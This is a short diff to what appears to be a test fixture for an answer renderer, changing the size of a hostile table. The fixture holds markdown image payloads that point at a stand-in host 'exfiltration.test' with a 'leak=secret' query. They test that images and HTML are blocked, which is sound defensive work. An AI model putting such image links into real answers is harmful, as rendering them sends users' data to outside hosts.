@@ -3,6 +3,9 @@ export const ELSEWHERE = 'http://exfiltration.test'
 
 const LEAK = `${ELSEWHERE}/?leak=secret`
 
+/** Of its table: more than a phone is wide and high. */
+export const HOSTILE_ROWS = 40
+
 /** Ways to make a browser call out or run script by the text of an answer (design: links allow-listed, no images, no HTML). */
 export const HOSTILE_ANSWER = [
   `Inline image ![inline](${LEAK}&by=inline) and ![empty](<${LEAK}&by=angle> "title").`,
@@ -26,7 +29,7 @@ export const HOSTILE_ANSWER = [
   [
     '| a | b |',
     '| --- | --- |',
-    ...Array.from({ length: 300 }, (_, i) => `| row${i} | ![x](${LEAK}&by=table${i}) |`),
+    ...Array.from({ length: HOSTILE_ROWS }, (_, i) => `| row${i} | ![x](${LEAK}&by=table${i}) |`),
   ].join('\n'),
   `${'> '.repeat(60)}deep`,
   'The end of the hostile answer.',
